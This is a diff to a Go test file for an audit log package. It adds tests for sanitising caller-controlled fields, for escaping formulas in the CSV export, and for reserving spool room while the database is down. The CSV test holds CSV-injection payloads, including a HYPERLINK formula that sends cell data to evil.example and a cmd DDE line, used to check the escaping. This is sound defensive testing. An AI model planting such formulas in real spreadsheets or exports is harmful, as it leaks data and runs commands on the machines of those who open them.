@@ -3,14 +3,17 @@ package audit_test
 import (
 	"bytes"
 	"context"
+	"encoding/csv"
 	"errors"
 	"fmt"
 	"io"
 	"log/slog"
 	"os"
 	"path/filepath"
+	"strconv"
 	"strings"
 	"sync"
+	"sync/atomic"
 	"testing"
 	"time"
 
@@ -110,9 +113,6 @@ func TestRecordValidation(t *testing.T) {
 		{"no actor", func(e *audit.Event) { e.Actor = "" }},
 		{"no action", func(e *audit.Event) { e.Action = "" }},
 		{"bad outcome", func(e *audit.Event) { e.Outcome = "maybe" }},
-		{"NUL in reason", func(e *audit.Event) { e.Reason = "a\x00b" }},
-		{"bad utf8", func(e *audit.Event) { e.ObjectID = "\xff" }},
-		{"bad json", func(e *audit.Event) { e.After = []byte("{") }},
 		{"time before 1970", func(e *audit.Event) { e.Time = time.Date(1969, 1, 1, 0, 0, 0, 0, time.UTC) }},
 	}
 	for _, tc := range tests {
@@ -123,6 +123,67 @@ func TestRecordValidation(t *testing.T) {
 				t.Fatalf("err = %v, want ErrInvalid", err)
 			}
 		})
+	}
+}
+
+// TestRecordSanitizesContent: content a caller controls (a request path
+// with %ff or %00, a 5 KiB path, a token name, a state that is not JSON)
+// never makes a record invalid: it is stored sanitised - invalid UTF-8
+// replaced, NUL escaped, over-long fields cut with a marker - and the
+// chain verifies. (Required fields and the outcome are the caller's
+// program, not content: they stay errors, see TestRecordValidation.)
+func TestRecordSanitizesContent(t *testing.T) {
+	ctx := context.Background()
+	dir := t.TempDir()
+	l := openJournalLog(t, dir)
+	long := "GET /" + strings.Repeat("ä", audit.MaxFieldLen)
+	cases := []struct {
+		name  string
+		mut   func(*audit.Event)
+		check func(r *audit.Record) bool
+	}{
+		{"invalid UTF-8", func(e *audit.Event) { e.ObjectID = "GET /api/v1/\xff\xfe" },
+			func(r *audit.Record) bool { return r.ObjectID == "GET /api/v1/\uFFFD" }},
+		{"NUL", func(e *audit.Event) { e.Reason = "a\x00b" },
+			func(r *audit.Record) bool { return r.Reason == `a\x00b` }},
+		{"over-long field", func(e *audit.Event) { e.ObjectID = long },
+			func(r *audit.Record) bool {
+				return len(r.ObjectID) <= audit.MaxFieldLen && strings.HasPrefix(r.ObjectID, "GET /ää") &&
+					strings.HasSuffix(r.ObjectID, fmt.Sprintf("[truncated, %d bytes]", len(long)))
+			}},
+		{"too many roles", func(e *audit.Event) {
+			e.Roles = nil
+			for i := range audit.MaxRoles + 10 {
+				e.Roles = append(e.Roles, fmt.Sprintf("r%03d", i))
+			}
+		}, func(r *audit.Record) bool { return len(r.Roles) == audit.MaxRoles }},
+		{"state not JSON", func(e *audit.Event) { e.After = []byte("{") },
+			func(r *audit.Record) bool { return strings.Contains(string(r.After), `"invalid":true`) }},
+		{"state too long", func(e *audit.Event) { e.Before = []byte(`"` + strings.Repeat("x", audit.MaxStateLen) + `"`) },
+			func(r *audit.Record) bool { return strings.Contains(string(r.Before), `"truncated":true`) }},
+	}
+	for i, tc := range cases {
+		e := audittest.Event(i, time.Now())
+		tc.mut(&e)
+		rc, err := l.Record(ctx, e)
+		if err != nil {
+			t.Errorf("%s: not recorded: %v", tc.name, err)
+			continue
+		}
+		var got *audit.Record
+		j, err := audit.OpenJournalReadOnly(filepath.Join(dir, audit.JournalFile))
+		if err != nil {
+			t.Fatal(err)
+		}
+		j.Scan(ctx, "", rc.Seq, func(r *audit.Record) error { got = r; return errors.New("stop") })
+		j.Close()
+		if got == nil || !tc.check(got) {
+			t.Errorf("%s: stored as %+v", tc.name, got)
+		}
+	}
+	l.Close()
+	if rep, err := audit.VerifyStateDir(ctx, dir, audit.VerifyOptions{}); err != nil || len(rep.Chains) != 1 || rep.Chains[0].Records != len(cases) {
+		t.Fatalf("verify: %v %+v", err, rep)
 	}
 }
 
@@ -331,5 +392,150 @@ func TestExportGolden(t *testing.T) {
 			fmt.Fprintf(&b, "# manifest: %d records sha256 %s ranges %+v\n", m.Records, m.SHA256, m.Ranges)
 			testutil.Golden(t, filepath.Join("testdata", "export."+string(f)+".golden"), b.Bytes())
 		})
+	}
+}
+
+// TestCSVExportNeutralisesFormulas: a cell an attacker controls (the
+// X-Request-Id, the source, the reason...) that a spreadsheet would run as a
+// formula is written with a leading apostrophe (OWASP, CSV injection),
+// while the JSON Lines export keeps the value exact and verifies.
+func TestCSVExportNeutralisesFormulas(t *testing.T) {
+	ctx := context.Background()
+	dir := t.TempDir()
+	l := openJournalLog(t, dir)
+	defer l.Close()
+	payloads := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\tTAB", "\rCR"}
+	for i, p := range payloads {
+		e := audittest.Event(i, time.Time{})
+		e.RequestID, e.Reason, e.Actor = p, p, p
+		if _, err := l.Record(ctx, e); err != nil {
+			t.Fatal(err)
+		}
+	}
+	var out bytes.Buffer
+	if _, err := audit.WriteExport(ctx, l.Store(), audit.Filter{}, audit.FormatCSV, &out); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&out).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, row := range rows[1:] {
+		for i, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("row %s column %d starts a formula: %q", row[1], i, cell)
+			}
+		}
+		if want := "'" + payloads[mustAtoi(t, row[1])-1]; row[8] != want {
+			t.Errorf("request id %q, want %q", row[8], want)
+		}
+	}
+	out.Reset()
+	if _, err := audit.WriteExport(ctx, l.Store(), audit.Filter{}, audit.FormatJSONL, &out); err != nil {
+		t.Fatal(err)
+	}
+	rep, err := audit.VerifyJSONL(ctx, bytes.NewReader(out.Bytes()), audit.VerifyOptions{})
+	if err != nil || rep.Chains[0].Records != len(payloads) {
+		t.Fatalf("JSON Lines export: %v %+v", err, rep)
+	}
+	for i, line := range bytes.Split(bytes.TrimSpace(out.Bytes()), []byte("\n")) {
+		r, err := audit.ParseJSONL(append(line, '\n'))
+		if err != nil || r.RequestID != payloads[i] {
+			t.Errorf("JSON Lines request id %q, want %q exactly (%v)", r.RequestID, payloads[i], err)
+		}
+	}
+}
+
+func mustAtoi(t *testing.T, s string) int {
+	t.Helper()
+	n, err := strconv.Atoi(s)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return n
+}
+
+// flakyStore is a store (a journal standing in for the database) that can
+// be taken down: every call then fails as an unreachable database would.
+type flakyStore struct {
+	*audit.Journal
+	down atomic.Bool
+}
+
+var errDown = errors.New("connection refused")
+
+func (s *flakyStore) Head(ctx context.Context, inst string) (audit.Head, error) {
+	if s.down.Load() {
+		return audit.Head{}, errDown
+	}
+	return s.Journal.Head(ctx, inst)
+}
+
+func (s *flakyStore) Append(ctx context.Context, recs []audit.Record) error {
+	if s.down.Load() {
+		return errDown
+	}
+	return s.Journal.Append(ctx, recs)
+}
+
+func (s *flakyStore) AppendAnchor(ctx context.Context, a audit.Anchor) error {
+	if s.down.Load() {
+		return errDown
+	}
+	return s.Journal.AppendAnchor(ctx, a)
+}
+
+func newFlakyStore(t *testing.T) *flakyStore {
+	t.Helper()
+	j, err := audit.OpenJournal(filepath.Join(t.TempDir(), "db.jsonl"), 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return &flakyStore{Journal: j}
+}
+
+// TestSpoolReservesRoomForActions: while the database is down, noise
+// (RecordNoise: the summaries of refused requests) may use only its share
+// of the spool; actions and real authentication events still have the
+// rest, so noise never makes them fail closed. What noise was refused is
+// counted in audit.recovered.
+func TestSpoolReservesRoomForActions(t *testing.T) {
+	ctx := context.Background()
+	db := newFlakyStore(t)
+	l, err := audit.Open(ctx, audit.Options{Instance: "node1", StateDir: t.TempDir(), Primary: db, SpoolLimit: 100,
+		SpoolNoiseLimit: 20, RetryInterval: 10 * time.Millisecond, AnchorInterval: -1}, quiet())
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer l.Close()
+	if _, err := l.Record(ctx, audittest.Event(0, time.Time{})); err != nil {
+		t.Fatal(err)
+	}
+	db.down.Store(true)
+	refused := 0
+	for i := range 200 {
+		if _, err := l.RecordNoise(ctx, audittest.Event(i, time.Time{})); errors.Is(err, audit.ErrUnavailable) {
+			refused++
+		} else if err != nil {
+			t.Fatal(err)
+		}
+	}
+	if refused < 180 {
+		t.Fatalf("%d of 200 noise records refused, want all but the share of 20", refused)
+	}
+	for i := range 75 {
+		rc, err := l.Record(ctx, audittest.Event(i, time.Time{}))
+		if err != nil {
+			t.Fatalf("action %d with a spool full of noise: %v", i, err)
+		}
+		if !rc.Spooled {
+			t.Fatalf("action %d not spooled", i)
+		}
+	}
+	db.down.Store(false)
+	testutil.Eventually(t, 10*time.Second, func() bool { return !l.Degraded() }, "the spool is replayed")
+	recs, err := db.Query(ctx, audit.Filter{Action: audit.ActionAuditRecovered})
+	if err != nil || len(recs) != 1 || !strings.Contains(recs[0].Reason, fmt.Sprintf("%d noise records refused", refused)) {
+		t.Fatalf("audit.recovered %+v %v, want it to count the %d refused noise records", recs, err, refused)
 	}
 }
